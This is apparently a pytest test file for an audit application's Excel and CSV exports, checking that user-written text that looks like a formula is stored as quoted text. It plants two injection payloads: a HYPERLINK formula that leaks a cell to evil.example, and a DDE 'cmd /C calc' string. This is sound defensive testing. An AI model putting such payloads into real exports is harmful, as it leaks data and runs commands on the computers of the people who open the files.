"""No export writes a user's text as a live formula (OWASP: CSV and spreadsheet injection).

A police auditor's text "=HYPERLINK(…)" became a live link in the business unit's export. Every
export writes its rows through ``core.spreadsheets.append_row`` (CSV: ``csv_text``): text that
a spreadsheet would take for a formula is text, marked with Excel's quote prefix so that it
stays text when the cell is edited; numbers, negative ones too, stay numbers. Each export below
is made with such text in the fields its users write.
"""

from __future__ import annotations

import io
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from assurance.audits import services as audit_services
from assurance.audits.models import AgencyReturn, AuditStatus
from assurance.audits.tests.factories import add_case, neglect_deep_dive, return_submitted
from assurance.audits.workbooks import audit_workbook, return_workbook
from assurance.dataset.catalogue.interchange import catalogue_csv, catalogue_xlsx
from assurance.dataset.catalogue.models import Indicator
from assurance.dataset.catalogue.services import catalogue_load
from assurance.dataset.collection.tests.factories import (
    CollectionRoundFactory,
    IndicatorValueFactory,
)
from assurance.dataset.collection.workbooks import values_workbook
from assurance.frameworks.interchange.workbooks import export_excel
from assurance.frameworks.models import Item, Section
from assurance.frameworks.tests.factories import NeglectAuditToolFactory
from assurance.partnerships.access import actor_for_person
from assurance.partnerships.models import Person
from assurance.partnerships.tests.factories import Tenant

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the case file")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def _cells(content: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(content))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def assert_text_not_formulas(content: bytes, *planted: str) -> list[Any]:
    """No cell of the workbook is a formula, and each ``planted`` text is in a text cell with the
    quote prefix. Returns the cells, for more checks."""
    cells = _cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for text in planted:
        found = [c for c in cells if c.value == text]
        assert found, f"{text!r} is not in the workbook"
        assert all(c.data_type == "s" and c.quotePrefix for c in found)
    return cells


@pytest.fixture
def tool(northfield: Tenant) -> Any:
    tool = NeglectAuditToolFactory(partnership=northfield.partnership)
    Section.objects.filter(framework=tool).update(title=AT)
    Item.objects.filter(section__framework=tool).update(text=LINK)
    return tool


def test_the_framework_export(tool: Any) -> None:
    assert_text_not_formulas(export_excel(tool), LINK, AT)


@pytest.fixture
def audit(northfield: Tenant, tool: Any, amira: Person, priya: Person, kwame: Person) -> Any:
    audit = neglect_deep_dive(northfield, tool=tool, lead=amira)
    audit.title, audit.scope = AT, LINK
    audit.save()
    case = add_case(audit, northfield, amira, selection_reason=LINK)
    for agency_return in AgencyReturn.unscoped.filter(case=case):
        agency_return.auditors.add(priya, kwame)
    audit.status = AuditStatus.AUDITING
    audit.save()
    return audit


def test_the_returns_workbook(audit: Any, priya: Person, northfield: Tenant) -> None:
    police = AgencyReturn.unscoped.get(case__audit=audit, agency=northfield.police)
    audit_services.return_save(
        actor=actor_for_person(priya),
        agency_return=police,
        answers={},
        narrative={"working_well": LINK},
        expected_revision=0,
    )
    cells = assert_text_not_formulas(
        return_workbook(actor=actor_for_person(priya), audit=audit), LINK
    )
    title = [c for c in cells if str(c.value).startswith(AT)]  # the instructions name the audit
    assert title and all(c.quotePrefix for c in title)


def test_the_audit_export(audit: Any, kwame: Person, northfield: Tenant) -> None:
    health = AgencyReturn.unscoped.get(case__audit=audit, agency=northfield.health)
    return_submitted(
        health,
        auditor=kwame,
        labels=["Met", "Not met", "Met", "Met"],
        narrative={"worried_about": AT, "working_well": LINK},
    )
    cells = assert_text_not_formulas(audit_workbook(audit=audit), LINK, AT)
    assert any(c.data_type == "n" for c in cells)  # the findings' figures are still numbers


def test_the_collection_workbook(northfield: Tenant, helen: Person) -> None:
    catalogue_load()
    round = CollectionRoundFactory(partnership=northfield.partnership)
    count = Indicator.objects.get(code="POL-MISSING")
    IndicatorValueFactory(
        round=round,
        partnership=northfield.partnership,
        indicator=count,
        agency=northfield.police,
        numerator=Decimal(-5),
        commentary=LINK,
        entered_by=helen,
    )
    cells = assert_text_not_formulas(values_workbook(round=round, agency=northfield.police), LINK)
    numerator = [c for c in cells if c.column_letter == "E" and c.row == 2]
    assert [(c.value, c.data_type) for c in numerator] == [(-5, "n")]  # negative, still a number


@pytest.fixture
def catalogue(db: None) -> Any:
    catalogue_load()
    Indicator.objects.filter(code="CSC-REF").update(definition=LINK, numerator_definition=AT)
    return Indicator.objects.order_by("order")


def test_the_catalogue_workbook(catalogue: Any) -> None:
    cells = assert_text_not_formulas(catalogue_xlsx(catalogue), LINK)
    assert any(c.data_type == "n" for c in cells)  # phase and decimal places stay numbers


def test_the_catalogue_csv(catalogue: Any) -> None:
    text = catalogue_csv(catalogue)
    assert f"'{LINK}".replace('"', '""') in text
    assert ",=" not in text and "\n=" not in text and ",@" not in text
